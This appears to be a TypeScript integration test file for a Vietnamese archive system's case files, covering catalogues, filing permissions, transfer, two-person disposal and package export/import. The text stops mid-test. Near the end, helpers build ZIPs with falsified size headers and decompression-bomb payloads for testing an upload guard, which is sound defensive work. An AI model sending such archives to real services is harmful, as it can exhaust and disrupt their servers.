import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import zlib from 'node:zlib';
import { and, asc, eq } from 'drizzle-orm';
import JSZip from 'jszip';
import { auditEvents } from '../../api/src/audit/schema';
import { verifyAuditChain } from '../../api/src/audit/service';
import { caseFileIdsOfDocument } from '../../api/src/case-files/filing';
import { sendTransferReminders } from '../../api/src/case-files/transfer';
import { Notifier } from '../../api/src/notifications/notifier';
import { notifications } from '../../api/src/notifications/schema';
import { createRedis } from '../../api/src/redis/connection';
import { roleGrants, users } from '../../api/src/users/schema';
import { textPdf } from '../support/documents';
import { REDIS_URL, loggedIn, startTestApp, type ApiClient, type TestApp } from '../support/harness';

let t: TestApp;
let dataDir: string;
const ids = new Map<string, string>();
const clients = new Map<string, ApiClient>();

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'vanthu-case-files-'));
  // 1 MB uploads: packages may then unpack to 4 MB at most (the zip-bomb guard is tested below).
  t = await startTestApp({ env: { DATA_DIR: dataDir, UPLOAD_MAX_FILE_MB: '1' } });
  for (const u of await t.database.db.select({ id: users.id, username: users.username }).from(users)) ids.set(u.username, u.id);
  // A second archive for the round trip: the Sở Tài chính's clerk also keeps its archive.
  await t.database.db.insert(roleGrants).values({ userId: ids.get('stc.vanthu')!, role: 'LUU_TRU', organisationId: 'qn-stc' });
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

async function as(username: string) {
  if (!clients.has(username)) clients.set(username, await loggedIn(t.app, username));
  return clients.get(username)!;
}

interface CaseFile {
  id: string;
  code: string;
  headingId: string | null;
  status: string;
  title: string;
  retentionYears: number | null;
  maintenance: string;
  startDate: string | null;
  endDate: string | null;
  docTotal: number;
  pageTotal: number;
  imported: boolean;
  transfer: { dueDate: string; state: string } | null;
  disposalReviewDate: string | null;
  documents: {
    entryId: string;
    ordinal: number;
    kind: string;
    documentId: string | null;
    visible: boolean;
    subject: string | null;
    numberAndSymbol: string | null;
  }[];
  disposal: { approvals: { capacity: string; user: { id: string } }[] };
  allowedActions: string[];
}

const ok = <T = CaseFile>(res: { status: number; body: unknown }, status = 200) => {
  if (res.status !== status) throw new Error(`expected ${status}, got ${res.status}: ${JSON.stringify(res.body)}`);
  return res.body as T;
};
const get = async (username: string, url: string) => (await as(username)).get(url);
const post = async (username: string, url: string, body: object = {}) => (await as(username)).post(url, body);
const patch = async (username: string, url: string, body: object) => (await as(username)).send('patch', url, body);

let seq = 0;
/** A registered incoming document of Sở Nội vụ (upload by its clerk, then số đến). */
async function incoming(subject = 'V/v báo cáo công tác văn thư, lưu trữ') {
  const clerk = await as('snv.vanthu');
  if (!clerk.xsrf) await clerk.get('/api/me');
  const pdf = await textPdf([subject, 'Trang 2']);
  const draft = ok<{ id: string }>(
    await clerk.agent.post('/api/incoming').set('X-XSRF-TOKEN', clerk.xsrf!).attach('main', pdf, `công văn ${++seq}.pdf`),
    201,
  );
  ok(
    await clerk.post(`/api/incoming/${draft.id}/register`, {
      registerId: 'qn-snv-den',
      issuerName: 'Ủy ban nhân dân tỉnh Quảng Ninh',
      issuerOrganCode: '000.00.00.H49',
      number: String(100 + seq),
      symbol: 'UBND-VX',
      issueDate: '2025-01-09',
      documentType: 'Công văn',
      subject,
      signerName: 'Lê Thu Hà',
      signerPosition: 'Phó Chủ tịch',
    }),
  );
  return draft.id;
}

/** An outgoing document of Sở Nội vụ issued on a paper signature: drafted, approved by the unit head and the director, numbered. */
async function issuedOutgoing(subject = 'Kế hoạch công tác văn thư, lưu trữ năm 2025') {
  const author = await as('snv.cv.tcbc');
  if (!author.xsrf) await author.get('/api/me');
  const meta = { documentType: 'KH', subject, recipients: [{ kind: 'ORGANISATION', organisationId: 'qn-stc' }] };
  const doc = ok<{ id: string }>(
    await author.agent
      .post('/api/outgoing')
      .set('X-XSRF-TOKEN', author.xsrf!)
      .field('metadata', JSON.stringify(meta))
      .attach('main', await textPdf([subject]), 'Kế hoạch.pdf'),
    201,
  );
  ok(await post('snv.cv.tcbc', `/api/outgoing/${doc.id}/submit`));
  ok(await post('snv.tp.tcbc', `/api/outgoing/${doc.id}/approve`));
  ok(await post('snv.gd', `/api/outgoing/${doc.id}/approve`));
  ok(await post('snv.vanthu', `/api/outgoing/${doc.id}/issue`, { paperSignature: true }));
  return doc.id;
}

/** A download as bytes, whatever its media type. */
const binary = (req: ReturnType<ApiClient['agent']['get']>) =>
  req.buffer(true).parse((res, cb) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  });

async function create(username: string, body: Record<string, unknown>) {
  return ok(await post(username, '/api/case-files', { year: 2025, retentionYears: 10, ...body }), 201);
}

async function findSeeded(notation: string) {
  const list = ok<{ items: CaseFile[] }>(await get('snv.luutru', '/api/case-files?organisationId=qn-snv&year=2025'));
  return list.items.find((c) => c.code.endsWith(`.${notation}`))!;
}

describe('catalogue (danh mục hồ sơ)', () => {
  it('seeds the Sở Nội vụ 2025 catalogue of docs/domain.md §9.3 with FileCode parts, and hides it from other organisations', async () => {
    const cat = ok<{ items: CaseFile[]; headings: { code: string }[]; totals: { permanent: number; limited: number } }>(
      await get('snv.cv.tcbc', '/api/case-files/catalogue?year=2025'),
    );
    expect(cat.items.map((c) => [c.code, c.maintenance, c.status])).toEqual([
      ['000.00.03.H49.2025.01.TCBC', 'Vĩnh viễn', 'OPEN'],
      ['000.00.03.H49.2025.01.VTLT', 'Vĩnh viễn', 'OPEN'],
      ['000.00.03.H49.2025.02.VTLT', '20 năm', 'OPEN'],
    ]);
    expect(cat.headings.map((h) => h.code)).toEqual(['VTLT', 'TCBC']);
    expect(cat.totals).toEqual({ permanent: 2, limited: 1 });
    const printed = await binary((await as('snv.cv.tcbc')).agent.get('/api/case-files/catalogue.xlsx?year=2025'));
    expect(printed.status).toBe(200);
    const sheet = (await JSZip.loadAsync(printed.body as Buffer)).file('xl/sharedStrings.xml');
    const strings = (await sheet!.async('string')).normalize('NFC');
    for (const s of [
      'DANH MỤC HỒ SƠ NĂM 2025',
      'I. VĂN THƯ, LƯU TRỮ',
      '01.VTLT',
      'Tổng số: 3 hồ sơ, trong đó vĩnh viễn: 2, có thời hạn: 1',
    ])
      expect(strings).toContain(s);
    const seeded = cat.items[0];
    expect((await get('stc.gd', `/api/case-files/${seeded.id}`)).status).toBe(404);
    expect(ok<{ items: CaseFile[] }>(await get('stc.gd', '/api/case-files')).items).toEqual([]);
  });

  it('keeps the notation unique per organisation and year, and lets only the unit, leaders and archivists open files', async () => {
    const dup = await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: '01.TCBC', title: 'Trùng', retentionYears: null });
    expect(dup.status).toBe(409);
    expect(dup.body.code).toBe('case_file.code_taken');
    expect(
      (
        await post('snv.cv.tcbc', '/api/case-files', {
          year: 2025,
          notation: '09.VTLT',
          title: 'Không phải đơn vị mình',
          retentionYears: 5,
          unitId: 'snv-vtlt',
        })
      ).status,
    ).toBe(403);
    const bad = await post('snv.cv.tcbc', '/api/case-files', { year: 2025, notation: 'có dấu cách', title: 'x', retentionYears: 0 });
    expect(bad.status).toBe(422);
    // Headings (đề mục) of a year's catalogue: leaders and archivists add them; files name one of their year.
    expect((await post('snv.cv.tcbc', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' })).status).toBe(
      403,
    );
    const heading = ok<{ id: string; ordinal: number }>(
      await post('snv.luutru', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Tổ chức, biên chế' }),
      201,
    );
    expect(heading.ordinal).toBe(1);
    expect((await post('snv.gd', '/api/case-files/headings', { year: 2026, code: 'TCBC', title: 'Lần nữa' })).body.code).toBe(
      'case_file.heading_taken',
    );
    const wrongYear = await post('snv.cv.tcbc', '/api/case-files', {
      year: 2025,
      notation: '40.TCBC',
      title: 'Sai năm',
      retentionYears: 5,
      headingId: heading.id,
    });
    expect(wrongYear.status).toBe(422);
    expect(wrongYear.body.errors).toEqual([{ path: 'headingId', message: 'unknown heading' }]);
    const next = await create('snv.cv.tcbc', { year: 2026, notation: '01.TCBC', title: 'Hồ sơ năm sau', headingId: heading.id });
    expect(next.headingId).toBe(heading.id);
    expect(next).toMatchObject({ code: '000.00.03.H49.2026.01.TCBC', status: 'OPEN', creator: { id: ids.get('snv.cv.tcbc') } });
  });
});

describe('filing (lập hồ sơ)', () => {
  it('lets archivists read the organisation’s registered ordinary documents (visibility rule)', async () => {
    const id = await incoming('V/v kiểm tra công tác lưu trữ');
    expect((await get('snv.luutru', `/api/incoming/${id}`)).status).toBe(200);
    expect((await get('snv.cv.tcbc', `/api/incoming/${id}`)).status).toBe(404);
    const clerk = await as('snv.vanthu');
    const draft = ok<{ id: string }>(
      await clerk.agent
        .post('/api/incoming')
        .set('X-XSRF-TOKEN', clerk.xsrf!)
        .attach('main', await textPdf(['Chưa vào sổ']), 'nháp.pdf'),
      201,
    );
    expect((await get('snv.luutru', `/api/incoming/${draft.id}`)).status).toBe(404);
    const list = ok<{ items: { id: string }[] }>(await get('snv.luutru', '/api/incoming?limit=100'));
    expect(list.items.map((d) => d.id)).toContain(id);
    expect(list.items.map((d) => d.id)).not.toContain(draft.id);
    expect((await get('stc.vanthu', `/api/incoming/${id}`)).status).toBe(404);
  });

  it('files only documents the person may open into case files they work on, with ordinals 1…n; unfile, move and reorder keep them dense', async () => {
    const tcbc = await findSeeded('01.TCBC');
    const vtlt2 = await findSeeded('02.VTLT');
    const inc = await incoming('V/v thẩm định đề án vị trí việc làm');
    const out = await issuedOutgoing('Báo cáo thẩm định đề án vị trí việc làm');
    expect((await get('snv.luutru', `/api/outgoing/${out}`)).status).toBe(200);

    // The unit's specialist works on 01.TCBC but may not open the incoming document: 404 as for a missing one.
    const hidden = await post('snv.cv.tcbc', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: inc });
    expect(hidden.status).toBe(404);
    // The clerk may open it but does not work on the unit's case file.
    expect((await post('snv.vanthu', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: inc })).status).toBe(403);
    // Another organisation's case file is not there at all.
    expect((await post('stc.vanthu', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: inc })).status).toBe(404);

    ok(await post('snv.luutru', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: inc }), 201);
    let cf = ok(await post('snv.cv.tcbc', `/api/case-files/${tcbc.id}/documents`, { kind: 'OUTGOING', documentId: out }), 201);
    expect(cf.documents.map((d) => [d.ordinal, d.kind, d.documentId])).toEqual([
      [1, 'INCOMING', inc],
      [2, 'OUTGOING', out],
    ]);
    // The specialist sees that the incoming document is there, not what it says.
    expect(cf.documents[0]).toMatchObject({ visible: false, subject: null });
    expect(cf.documents[1]).toMatchObject({ visible: true, subject: 'Báo cáo thẩm định đề án vị trí việc làm' });
    expect(cf.docTotal).toBe(2);
    expect(cf.pageTotal).toBe(3);
    // The list counts in SQL what the page counts from the metadata.
    expect(await findSeeded('01.TCBC')).toMatchObject({ docTotal: 2, pageTotal: 3 });
    expect(await caseFileIdsOfDocument(t.database.db, 'INCOMING', inc)).toEqual([tcbc.id]);

    const twice = await post('snv.luutru', `/api/case-files/${vtlt2.id}/documents`, { kind: 'INCOMING', documentId: inc });
    expect(twice.status).toBe(409);
    expect(twice.body.code).toBe('case_file.already_filed');
    const draftDoc = ok<{ id: string }>(
      await (
        await as('snv.cv.tcbc')
      ).agent
        .post('/api/outgoing')
        .set('X-XSRF-TOKEN', (await as('snv.cv.tcbc')).xsrf!)
        .field('metadata', JSON.stringify({ documentType: 'CV', subject: 'Dự thảo' }))
        .attach('main', await textPdf(['Dự thảo']), 'dt.pdf'),
      201,
    );
    expect(
      (await post('snv.cv.tcbc', `/api/case-files/${tcbc.id}/documents`, { kind: 'OUTGOING', documentId: draftDoc.id })).body.code,
    ).toBe('case_file.document_not_final');
    // Archivists read outgoing documents once issued, not drafts.
    expect((await get('snv.luutru', `/api/outgoing/${draftDoc.id}`)).status).toBe(404);

    const third = await incoming('V/v góp ý đề án');
    cf = ok(await post('snv.luutru', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: third }), 201);
    cf = ok(await post('snv.luutru', `/api/case-files/${tcbc.id}/documents/${cf.documents[2].entryId}/ordinal`, { ordinal: 1 }));
    expect(cf.documents.map((d) => d.documentId)).toEqual([third, inc, out]);
    cf = ok(await (await as('snv.luutru')).delete(`/api/case-files/${tcbc.id}/documents/${cf.documents[1].entryId}`));
    expect(cf.documents.map((d) => [d.ordinal, d.documentId])).toEqual([
      [1, third],
      [2, out],
    ]);
    cf = ok(await post('snv.luutru', `/api/case-files/${tcbc.id}/documents`, { kind: 'INCOMING', documentId: inc }), 201);
    cf = ok(await post('snv.luutru', `/api/case-files/${tcbc.id}/documents/${cf.documents[0].entryId}/move`, { toCaseFileId: vtlt2.id }));
    expect(cf.documents.map((d) => [d.ordinal, d.documentId])).toEqual([
      [1, out],
      [2, inc],
    ]);
    const moved = ok(await get('snv.luutru', `/api/case-files/${vtlt2.id}`));
    expect(moved.documents.map((d) => [d.ordinal, d.documentId])).toEqual([[1, third]]);

    const targets = ok<{ filedIn: string[]; items: { id: string }[] }>(
      await get('snv.cv.tcbc', `/api/case-files/targets?kind=OUTGOING&documentId=${out}`),
    );
    expect(targets.filedIn).toEqual([tcbc.id]);
    expect(targets.items.map((i) => i.id)).toContain(tcbc.id);
    expect(targets.items.map((i) => i.id)).not.toContain(vtlt2.id);
    const audit = await t.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, tcbc.id)));
    expect(audit.map((a) => a.action)).toEqual(
      expect.arrayContaining(['case_file.file', 'case_file.unfile', 'case_file.reorder', 'case_file.move_out']),
    );
  });
});

describe('closing, transfer and retention', () => {
  it('closes only with a document, re-assesses retention; only a leader reopens before transfer', async () => {
    const cf = await create('snv.cv.tcbc', { notation: '10.TCBC', title: 'Hồ sơ tuyển dụng công chức', startDate: '2020-02-01' });
    const empty = await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`);
    expect(empty.status).toBe(409);
    expect(empty.body.code).toBe('case_file.empty');
    ok(
      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('V/v tuyển dụng') }),
      201,
    );
    expect((await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate: '2020-01-01' })).status).toBe(422);
    const closed = ok(
      await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, {
        endDate: '2020-02-29',
        retentionYears: 20,
        title: 'Hồ sơ tuyển dụng công chức năm 2020',
      }),
    );
    // 29 February plus whole years lands on 28 February in a common year.
    expect(closed).toMatchObject({
      status: 'CLOSED',
      endDate: '2020-02-29',
      retentionYears: 20,
      maintenance: '20 năm',
      disposalReviewDate: '2040-02-29',
      transfer: { dueDate: '2021-02-28', state: 'OVERDUE' },
    });
    expect(closed.allowedActions).toEqual(expect.arrayContaining(['transfer']));
    expect(closed.allowedActions).not.toContain('reopen');
    const late = await post('snv.luutru', `/api/case-files/${cf.id}/documents`, {
      kind: 'INCOMING',
      documentId: await incoming('Đến muộn'),
    });
    expect(late.status).toBe(409);
    expect(late.body.code).toBe('case_file.not_open');
    expect((await post('snv.cv.tcbc', `/api/case-files/${cf.id}/reopen`)).status).toBe(403);
    const reopened = ok(await post('snv.gd', `/api/case-files/${cf.id}/reopen`));
    expect(reopened).toMatchObject({ status: 'OPEN', endDate: null, transfer: null });
  });

  it('transfers closed files kept ≥ 5 years, reminds 30 days before the due date once, and leaves them read-only to the unit', async () => {
    const short = await create('snv.cv.tcbc', { notation: '11.TCBC', title: 'Hồ sơ ngắn hạn', retentionYears: 2, startDate: '2025-01-02' });
    ok(
      await post('snv.luutru', `/api/case-files/${short.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Ngắn hạn') }),
      201,
    );
    ok(await post('snv.cv.tcbc', `/api/case-files/${short.id}/close`, { endDate: '2025-03-01' }));
    const refused = await post('snv.cv.tcbc', `/api/case-files/${short.id}/transfer`);
    expect(refused.status).toBe(409);
    expect(refused.body.code).toBe('case_file.retention_too_short');

    const cf = await create('snv.cv.tcbc', { notation: '12.TCBC', title: 'Hồ sơ biên chế', retentionYears: 10, startDate: '2025-01-02' });
    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: await incoming('Biên chế') }), 201);
    ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate: '2025-12-20' }));
    const due = ok<{ items: CaseFile[] }>(await get('snv.luutru', '/api/case-files/transfers-due'));
    expect(due.items.find((i) => i.id === cf.id)?.transfer).toEqual({ dueDate: '2026-12-20', state: expect.any(String) });
    expect(due.items.map((i) => i.id)).not.toContain(short.id);

    const redis = createRedis(REDIS_URL);
    try {
      const notifier = new Notifier(t.database.db, redis, t.config.QUEUE_PREFIX);
      const forFile = async () =>
        (await t.database.db.select().from(notifications).where(eq(notifications.kind, 'case_file.transfer_due'))).filter(
          (n) => (n.data as { caseFileId: string }).caseFileId === cf.id,
        );
      await sendTransferReminders(t.database.db, notifier, '2026-11-19');
      expect(await forFile()).toEqual([]);
      await sendTransferReminders(t.database.db, notifier, '2026-11-20');
      expect((await forFile()).map((n) => n.userId).sort()).toEqual([ids.get('snv.cv.tcbc'), ids.get('snv.luutru')].sort());
      await sendTransferReminders(t.database.db, notifier, '2026-11-22');
      expect(await forFile()).toHaveLength(2);
    } finally {
      redis.disconnect();
    }

    const transferred = ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/transfer`));
    expect(transferred).toMatchObject({ status: 'TRANSFERRED', transfer: null });
    const told = await t.database.db
      .select()
      .from(notifications)
      .where(and(eq(notifications.kind, 'case_file.transferred'), eq(notifications.userId, ids.get('snv.luutru')!)));
    expect(told.map((n) => n.link)).toContain(`/case-files/${cf.id}`);

    for (const res of [
      await patch('snv.cv.tcbc', `/api/case-files/${cf.id}`, { title: 'Sửa sau khi nộp' }),
      await post('snv.cv.tcbc', `/api/case-files/${cf.id}/documents`, { kind: 'OUTGOING', documentId: 'x' }),
      await post('snv.gd', `/api/case-files/${cf.id}/reopen`),
      await (await as('snv.tp.tcbc')).delete(`/api/case-files/${cf.id}/documents/${transferred.documents[0].entryId}`),
    ]) {
      expect(res.status).toBe(409);
      expect(res.body.code).toBe('case_file.read_only');
    }
    expect(ok(await get('snv.cv.tcbc', `/api/case-files/${cf.id}`)).allowedActions).not.toContain('edit');
    const managed = ok(await patch('snv.luutru', `/api/case-files/${cf.id}`, { description: 'Đã kiểm tra, đủ thành phần' }));
    expect(managed).toMatchObject({ status: 'TRANSFERRED' });
    const archive = ok<{ items: CaseFile[] }>(await get('snv.luutru', '/api/case-files/archive'));
    expect(archive.items.map((i) => i.id)).toContain(cf.id);
    expect((await get('snv.cv.tcbc', '/api/case-files/archive')).status).toBe(403);
  });
});

describe('disposition (hủy hồ sơ hết thời hạn bảo quản)', () => {
  async function transferredFile(notation: string, retentionYears: number | null, startDate: string, endDate: string) {
    const cf = await create('snv.cv.tcbc', { notation, title: `Hồ sơ ${notation}`, retentionYears, startDate });
    ok(
      await post('snv.luutru', `/api/case-files/${cf.id}/documents`, {
        kind: 'INCOMING',
        documentId: await incoming(`Văn bản của ${notation}`),
      }),
      201,
    );
    ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate }));
    return ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/transfer`));
  }

  it('reports expired files and disposes only with an archivist’s and a leader’s approval, two people, never a permanent file', async () => {
    const old = await transferredFile('20.TCBC', 10, '2014-01-06', '2014-12-31');
    const permanent = await transferredFile('21.TCBC', null, '2014-01-06', '2014-12-31');
    const recent = await transferredFile('22.TCBC', 20, '2025-01-06', '2025-06-30');
    expect(old.disposalReviewDate).toBe('2024-12-31');
    expect(permanent.disposalReviewDate).toBeNull();

    const report = ok<{ items: CaseFile[] }>(await get('snv.luutru', '/api/case-files/disposition'));
    expect(report.items.map((i) => i.id)).toContain(old.id);
    expect(report.items.map((i) => i.id)).not.toContain(permanent.id);
    expect(report.items.map((i) => i.id)).not.toContain(recent.id);
    expect((await get('snv.cv.tcbc', '/api/case-files/disposition')).status).toBe(403);
    const asOf = ok<{ items: CaseFile[] }>(await get('snv.gd', '/api/case-files/disposition?asOf=2024-12-30'));
    expect(asOf.items.map((i) => i.id)).not.toContain(old.id);

    expect((await post('snv.cv.tcbc', `/api/case-files/${old.id}/disposal/approve`, { reason: 'Hết giá trị' })).status).toBe(403);
    const perm = await post('snv.luutru', `/api/case-files/${permanent.id}/disposal/approve`, { reason: 'Thử' });
    expect(perm.status).toBe(409);
    expect(perm.body.code).toBe('case_file.permanent');
    expect((await post('snv.luutru', `/api/case-files/${recent.id}/disposal/approve`, { reason: 'Sớm' })).body.code).toBe(
      'case_file.not_expired',
    );

    const first = ok(
      await post('snv.luutru', `/api/case-files/${old.id}/disposal/approve`, {
        reason: 'Hết thời hạn bảo quản, hội đồng xác định hết giá trị',
      }),
    );
    expect(first.status).toBe('TRANSFERRED');
    expect(first.disposal.approvals.map((a) => a.capacity)).toEqual(['ARCHIVIST']);
    const again = await post('snv.luutru', `/api/case-files/${old.id}/disposal/approve`, { reason: 'Lần nữa' });
    expect(again.status).toBe(409);
    expect(again.body.code).toBe('case_file.same_approver');
    const done = ok(await post('snv.gd', `/api/case-files/${old.id}/disposal/approve`, { reason: 'Đồng ý hủy theo đề nghị của hội đồng' }));
    expect(done.status).toBe('DISPOSED');
    expect(done.disposal.approvals.map((a) => [a.capacity, a.user.id])).toEqual([
      ['ARCHIVIST', ids.get('snv.luutru')],
      ['LEADER', ids.get('snv.gd')],
    ]);
    expect((await get('snv.luutru', `/api/case-files/${old.id}/export`)).status).toBe(409);
    expect((await patch('snv.luutru', `/api/case-files/${old.id}`, { description: 'Sau khi hủy' })).body.code).toBe('case_file.disposed');
    const audit = await t.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.entityType, 'case_file'), eq(auditEvents.entityId, old.id)))
      .orderBy(asc(auditEvents.id));
    expect(audit.map((a) => a.action)).toEqual([
      'case_file.create',
      'case_file.file',
      'case_file.close',
      'case_file.transfer',
      'case_file.disposal_approve',
      'case_file.disposal_approve',
      'case_file.dispose',
    ]);
    expect((await verifyAuditChain(t.database.db)).ok).toBe(true);

    // The leader may approve first too: then the archivist's completes it.
    const other = await transferredFile('23.TCBC', 5, '2015-01-05', '2015-12-31');
    ok(await post('snv.gd', `/api/case-files/${other.id}/disposal/approve`, { reason: 'Hết giá trị' }));
    expect(ok(await post('snv.luutru', `/api/case-files/${other.id}/disposal/approve`, { reason: 'Hết giá trị' })).status).toBe('DISPOSED');

    const pdf = await (await as('snv.luutru')).agent.get('/api/case-files/disposition.pdf').buffer(true);
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toContain('application/pdf');
    expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');
    const xlsx = await binary((await as('snv.luutru')).agent.get('/api/case-files/disposition.xlsx'));
    expect((xlsx.body as Buffer).subarray(0, 2).toString()).toBe('PK');
  });
});

/** A ZIP written by hand, so its declared sizes can lie (JSZip writes honest ones). */
function handMadeZip(entries: { name: string; data: Buffer; method: 0 | 8; declaredSize: number }[]) {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(0x0800, 6);
    head.writeUInt16LE(e.method, 8);
    head.writeUInt32LE(e.data.length, 18);
    head.writeUInt32LE(e.declaredSize, 22);
    head.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.declaredSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(head, name, e.data);
    centrals.push(central, name);
    offset += head.length + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** `mib` MiB of zeros deflated in a stream (about 1 KB per MiB), never held inflated. */
async function deflatedZeros(mib: number) {
  const d = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  d.on('data', (c: Buffer) => out.push(c));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let i = 0; i < mib; i++) if (!d.write(zeros)) await once(d, 'drain');
  d.end();
  await once(d, 'end');
  return Buffer.concat(out);
}

describe('export and import packages', () => {
  const contents = async (zipBytes: Buffer) => {
    const zip = await JSZip.loadAsync(zipBytes);
    const out: Record<string, Buffer> = {};
    for (const f of Object.values(zip.files)) if (!f.dir) out[f.name] = await f.async('nodebuffer');
    return out;
  };
  async function upload(username: string, zipBytes: Buffer) {
    const c = await as(username);
    if (!c.xsrf) await c.get('/api/me');
    return c.agent.post('/api/case-files/import').set('X-XSRF-TOKEN', c.xsrf!).attach('package', zipBytes, 'ho-so.zip');
  }

  it('exports files, metadata.xml/csv and SHA-256 manifest; importing it elsewhere and exporting again gives the same metadata and checksums', async () => {
    const cf = await create('snv.cv.tcbc', {
      notation: '30.TCBC',
      title: 'Hồ sơ đề án vị trí việc làm — xuất gói',
      retentionYears: null,
      startDate: '2025-01-02',
      description: 'Có "ngoặc kép", dấu phẩy',
    });
    const inc = await incoming('V/v đề án vị trí việc làm, đợt 1');
    const out = await issuedOutgoing('Quyết định phê duyệt đề án vị trí việc làm');
    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'INCOMING', documentId: inc }), 201);
    ok(await post('snv.luutru', `/api/case-files/${cf.id}/documents`, { kind: 'OUTGOING', documentId: out }), 201);
    ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/close`, { endDate: '2025-10-31' }));
    ok(await post('snv.cv.tcbc', `/api/case-files/${cf.id}/transfer`));

    expect((await get('stc.gd', `/api/case-files/${cf.id}/export`)).status).toBe(404);
    const res = await binary((await as('snv.luutru')).agent.get(`/api/case-files/${cf.id}/export`));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('application/zip');
    const pkg = res.body as Buffer;
    const files = await contents(pkg);
    const names = Object.keys(files).sort();
    expect(names).toHaveLength(5);
    expect(names[0]).toMatch(/^files\/001\/01_công văn \d+\.pdf$/);
    expect(names[1]).toMatch(/^files\/002\/01_\d+_KH-SNV\.pdf$/);
    expect(names.slice(2)).toEqual(['manifest-sha256.txt', 'metadata.csv', 'metadata.xml']);
    const manifest = files['manifest-sha256.txt'].toString();
    for (const [name, bytes] of Object.entries(files)) {
      if (name === 'manifest-sha256.txt') continue;
      expect(manifest).toContain(`${crypto.createHash('sha256').update(bytes).digest('hex')}  ${name}`);
    }
    const xml = files['metadata.xml'].toString();
    expect(xml).toContain('<OrganId>000.00.03.H49</OrganId>');
    expect(xml).toContain('<FileCatalog>2025</FileCatalog>');
    expect(xml).toContain('<FileNotation>30.TCBC</FileNotation>');
    expect(xml).toContain('<Maintenance>Vĩnh viễn</Maintenance>');
    expect(xml).toContain('<DocTotal>2</DocTotal>');
    expect(xml).toContain('<Document kind="INCOMING">');
    expect(xml).toContain('<ArrivalNumber>');
    expect(xml).toContain('<CodeNotation>KH-SNV</CodeNotation>');
    expect(xml).toContain('<OrganName>Sở Tài chính tỉnh Quảng Ninh</OrganName>');
    expect(xml).toMatch(/<DocOrdinal>2<\/DocOrdinal>/);
    const csv = files['metadata.csv'].toString();
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(4);
    expect(csv).toContain('"Có ""ngoặc kép"", dấu phẩy"');

    // Somebody else's archive takes it in; exporting from there gives the same metadata and checksums.
    expect((await upload('stc.gd', pkg)).status).toBe(403);
    const imported = ok((await upload('stc.vanthu', pkg)) as { status: number; body: unknown }, 201);
    expect(imported).toMatchObject({
      status: 'TRANSFERRED',
      imported: true,
      code: '000.00.03.H49.2025.30.TCBC',
      docTotal: 2,
      maintenance: 'Vĩnh viễn',
    });
    expect(imported.documents.map((d) => [d.ordinal, d.kind, d.documentId])).toEqual([
      [1, 'INCOMING', null],
      [2, 'OUTGOING', null],
    ]);
    expect(imported.documents[1].subject).toBe('Quyết định phê duyệt đề án vị trí việc làm');
    const [issuedPath] = Object.keys(files).filter((n) => n.startsWith('files/002/'));
    const download = await binary(
      (await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`),
    );
    expect(download.status).toBe(200);
    expect(Buffer.compare(download.body as Buffer, files[issuedPath])).toBe(0);
    expect((await get('stc.cv.qlns', `/api/case-files/${imported.id}/documents/${imported.documents[1].entryId}/files/0`)).status).toBe(
      403,
    );
    const again = await contents(
      (await binary((await as('stc.vanthu')).agent.get(`/api/case-files/${imported.id}/export`))).body as Buffer,
    );
    expect(again['metadata.xml'].toString()).toBe(xml);
    expect(again['metadata.csv'].toString()).toBe(csv);
    expect(again['manifest-sha256.txt'].toString()).toBe(manifest);
